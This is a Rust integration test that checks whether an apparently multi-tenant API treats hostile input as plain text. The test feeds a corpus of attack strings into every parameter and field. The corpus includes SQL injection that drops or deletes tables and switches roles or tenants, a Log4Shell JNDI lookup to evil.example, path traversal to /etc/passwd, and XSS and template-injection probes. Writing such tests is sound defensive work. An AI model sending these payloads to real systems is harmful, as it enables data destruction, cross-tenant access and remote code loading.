//! Hostile text through every string that a caller can send: taken as text, or refused; never as a command.

use crate::look::{fingerprint, tables};
use crate::stage::{Body, Stage};
use bailiwick_contract::operations;
use serde_json::{Value, json};

const CORPUS: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE bailiwick.runs; --",
    "x'); COMMIT; SET ROLE bailiwick_system; --",
    "'; SET LOCAL bailiwick.tenant = 'fab41ca0-2222-4222-8222-222222222222'; --",
    "1; SELECT pg_sleep(30)",
    "\\'; DELETE FROM bailiwick.members; --",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%27%20OR%201%3D1%20--",
    "\u{2019} OR 1=1",
    "%",
    "_",
    "\0",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "$1",
    "NULL",
];

/// What every answer must be: an ordinary one. An injected statement that broke would be a 500, one that slept a late answer.
fn ordinary(status: u16) -> bool {
    (200..300).contains(&status) || [400, 401, 403, 404, 409, 413, 415, 422].contains(&status)
}

#[tokio::test]
async fn i63_hostile_text_in_any_parameter_is_text() {
    let stage = Stage::new().await;
    let owner = stage.contoso().owner();
    let mut look = stage.world.look().await;
    let (schema, foreign) = (tables(&mut look).await, fingerprint(&stage.world, stage.world.fabrikam.id).await);
    let mut sent = 0;
    for op in operations() {
        let base = stage.prepare(op).await;
        for text in CORPUS {
            let mut hostile = Vec::new();
            for param in op.path.split('/').filter(|part| part.starts_with('{')) {
                let encoded: String = text.bytes().map(|b| format!("%{b:02X}")).collect();
                let mut request = base.clone();
                request.path = op
                    .path
                    .split('/')
                    .map(|part| {
                        if part == param {
                            encoded.clone()
                        } else if part.starts_with('{') {
                            stage.runs[1].clone()
                        } else {
                            part.to_owned()
                        }
                    })
                    .collect::<Vec<_>>()
                    .join("/");
                hostile.push(request);
            }
            for name in stage.query_names(op) {
                let mut request = base.clone();
                request.query.retain(|(n, _)| *n != name);
                request.query.push((name, (*text).to_owned()));
                hostile.push(request);
            }
            if let Body::Json(body) = &base.body {
                let properties = stage.body_schema(op)["properties"].as_object().cloned().unwrap_or_default();
                for name in properties.keys() {
                    let mut changed: Value = body.clone();
                    changed[name] = json!(text);
                    let mut request = base.clone();
                    request.body = Body::Json(changed);
                    hostile.push(request);
                }
            }
            for request in hostile {
                let answer = request.send(&owner).await;
                assert!(ordinary(answer.status), "{} with {text:?}: {} {}", op.id, answer.status, String::from_utf8_lossy(&answer.bytes));
                sent += 1;
            }
        }
    }
    assert!(sent > 500, "only {sent} requests were made");
    assert_eq!(tables(&mut look).await, schema);
    assert_eq!(fingerprint(&stage.world, stage.world.fabrikam.id).await, foreign, "hostile text of one tenant changed another's rows");
}

/// What is taken is kept as it was sent, and a search for a sign finds the sign.
#[tokio::test]
async fn i63_hostile_names_are_stored_as_they_are_and_searched_as_they_are() {
    let stage = Stage::new().await;
    let owner = stage.contoso().owner();
    for text in CORPUS.iter().filter(|text| !text.contains('\0')) {
        let made = owner.post("/api/v1/projects", json!({"name": text})).await.ok();
        assert_eq!(made["name"], *text);
        let request = owner.request(reqwest::Method::GET, "/api/v1/findings").query(&[("search", text)]);
        assert_eq!(owner.send(request).await.ok()["items"], json!([]), "{text:?} found something");
    }
    let header = owner.request(reqwest::Method::GET, "/api/v1/me").header("x-api-key", "' OR '1'='1");
    assert_eq!(owner.send(header).await.refused(401), "not_signed_in");
    for key in CORPUS.iter().filter(|text| text.is_ascii() && !text.contains('\0')) {
        assert_eq!(stage.contoso().with_key(key).get("/api/v1/me").await.refused(401), "not_signed_in", "{key:?}");
    }
}
